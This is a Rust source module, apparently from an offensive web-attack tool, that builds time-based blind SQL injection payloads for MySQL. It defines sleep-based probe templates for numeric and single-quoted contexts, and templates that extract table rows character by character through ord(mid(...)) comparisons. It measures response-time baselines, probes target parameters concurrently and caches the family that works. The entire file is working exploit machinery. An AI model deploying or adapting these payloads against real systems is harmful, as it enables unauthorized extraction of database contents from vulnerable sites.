use std::sync::Arc;

use tracing::debug;

use crate::error::{AttackError, Result};
use crate::web::request::Request;
use crate::web::target::Target;

/// A coordinated triple of payload templates sharing one SQL escaping
/// context. Placeholders are substituted by name; `{condition}` and
/// `{value}` stay free until the ternary probe fills them in.
#[derive(Debug, Clone, Copy)]
pub struct PayloadFamily {
    pub test: &'static str,
    pub fetch_char: &'static str,
    pub fetch_row_length: &'static str,
}

/// MySQL payload families, ordered by preference: plain numeric context
/// first, single-quoted string context second.
pub const PAYLOAD_FAMILIES: &[PayloadFamily] = &[
    PayloadFamily {
        test: "1 and 0 or sleep({sleep_time})",
        fetch_char: "1 and 0 or if(ord(mid((select {column_name} from {table_name} \
                     limit {row_index},1),{char_index},1)){condition}{value}, \
                     sleep({sleep_time}), sleep(0))",
        fetch_row_length: "1 and 0 or if(char_length((select {column_name} from {table_name} \
                           limit {row_index},1)){condition}{value}, \
                           sleep({sleep_time}), sleep(0))",
    },
    PayloadFamily {
        test: "1' and 0 or sleep({sleep_time}) -- -",
        fetch_char: "1' and 0 or if(ord(mid((select {column_name} from {table_name} \
                     limit {row_index},1),{char_index},1)){condition}{value}, \
                     sleep({sleep_time}), sleep(0)) -- -",
        fetch_row_length: "1' and 0 or if(char_length((select {column_name} from {table_name} \
                           limit {row_index},1)){condition}{value}, \
                           sleep({sleep_time}), sleep(0)) -- -",
    },
];

/// Separator injected between column values via `char(9)`.
pub const COLUMN_SEPARATOR: char = '\t';

/// Instantiates the `{sleep_time}` placeholder, in seconds.
pub fn with_sleep_time(template: &str, sleep_time_s: f64) -> String {
    template.replace("{sleep_time}", &sleep_time_s.to_string())
}

/// Returns the column expression to select and the separator the fetched
/// string must later be split on. A single column is selected verbatim;
/// several are concatenated with a tab between them.
pub fn columns_concat(columns: &[String]) -> (String, char) {
    let column = if columns.len() == 1 {
        columns[0].clone()
    } else {
        format!("concat({})", columns.join(",char(9),"))
    };
    (column, COLUMN_SEPARATOR)
}

#[derive(Debug, Clone, Copy)]
struct Timing {
    reference_resp_time_ms: f64,
    sleep_time_ms: f64,
}

#[derive(Debug, Clone)]
struct Binding {
    param: String,
    family: usize,
}

/// Selects payloads for a parameter and owns the timing baseline.
///
/// The baseline (reference response time, sleep time) is measured once per
/// session; the family choice is cached per parameter, so repeated fetches
/// against the same parameter skip re-probing.
pub struct PayloadBuilder<T: Target> {
    target: Arc<T>,
    threshold: f64,
    timing: Option<Timing>,
    binding: Option<Binding>,
}

impl<T: Target> PayloadBuilder<T> {
    pub fn new(target: Arc<T>, threshold: f64) -> Self {
        Self {
            target,
            threshold,
            timing: None,
            binding: None,
        }
    }

    /// Callers validate `threshold > 1` before any network traffic.
    pub fn set_threshold(&mut self, threshold: f64) -> &mut Self {
        self.threshold = threshold;
        self
    }

    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    async fn measure(&mut self, default_request: &Request) -> Result<Timing> {
        if let Some(timing) = self.timing {
            return Ok(timing);
        }

        let reference_resp_time_ms = self.target.response_time(default_request).await?;
        let timing = Timing {
            reference_resp_time_ms,
            sleep_time_ms: reference_resp_time_ms * self.threshold,
        };
        debug!(
            "reference response time: {:.2} ms, sleep time: {:.2} ms",
            timing.reference_resp_time_ms, timing.sleep_time_ms
        );
        self.timing = Some(timing);
        Ok(timing)
    }

    /// Baseline latency of the unmodified default request, measured lazily
    /// and cached.
    pub async fn reference_resp_time(&mut self, default_request: &Request) -> Result<f64> {
        Ok(self.measure(default_request).await?.reference_resp_time_ms)
    }

    /// The oracle discriminator: any response at least this slow counts as
    /// "condition held". Equals `reference_resp_time * threshold`.
    pub async fn sleep_time(&mut self, default_request: &Request) -> Result<f64> {
        Ok(self.measure(default_request).await?.sleep_time_ms)
    }

    /// Probes every family's test payload against `param` concurrently and
    /// binds the lowest-indexed family that trips the sleep threshold.
    async fn bind(
        &mut self,
        default_request: &Request,
        param: &str,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<usize> {
        if let Some(binding) = &self.binding {
            if binding.param == param {
                return Ok(binding.family);
            }
        }

        let sleep_time_ms = self.sleep_time(default_request).await?;
        let sleep_time_s = sleep_time_ms / 1000.0;

        let probes: Vec<Request> = PAYLOAD_FAMILIES
            .iter()
            .map(|family| {
                let mut params = default_request.params().clone();
                params.insert(param.to_string(), with_sleep_time(family.test, sleep_time_s));
                default_request.clone().set_params(params)
            })
            .collect();
        debug!(
            "probing {} payload families against parameter '{}'",
            probes.len(),
            param
        );

        let response_times = self
            .target
            .response_times(probes, max_interval_ms, max_threads)
            .await?;
        debug!("family probe response times: {:?}", response_times);

        let family = response_times
            .iter()
            .position(|t| *t >= sleep_time_ms)
            .ok_or_else(|| AttackError::UnexploitableParameter(param.to_string()))?;
        debug!(
            "parameter '{}' seems vulnerable to payload '{}'",
            param, PAYLOAD_FAMILIES[family].test
        );

        self.binding = Some(Binding {
            param: param.to_string(),
            family,
        });
        Ok(family)
    }

    /// Template that merely makes the target sleep; selecting it doubles as
    /// the exploitability check.
    pub async fn test_payload(
        &mut self,
        default_request: &Request,
        param: &str,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<&'static str> {
        let family = self
            .bind(default_request, param, max_interval_ms, max_threads)
            .await?;
        Ok(PAYLOAD_FAMILIES[family].test)
    }

    /// Template comparing `ord(mid(...))` of one character against a value.
    pub async fn fetch_char_payload(
        &mut self,
        default_request: &Request,
        param: &str,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<&'static str> {
        let family = self
            .bind(default_request, param, max_interval_ms, max_threads)
            .await?;
        Ok(PAYLOAD_FAMILIES[family].fetch_char)
    }

    /// Template comparing `char_length(...)` of a row against a value.
    pub async fn fetch_row_length_payload(
        &mut self,
        default_request: &Request,
        param: &str,
        max_interval_ms: u64,
        max_threads: usize,
    ) -> Result<&'static str> {
        let family = self
            .bind(default_request, param, max_interval_ms, max_threads)
            .await?;
        Ok(PAYLOAD_FAMILIES[family].fetch_row_length)
    }
}
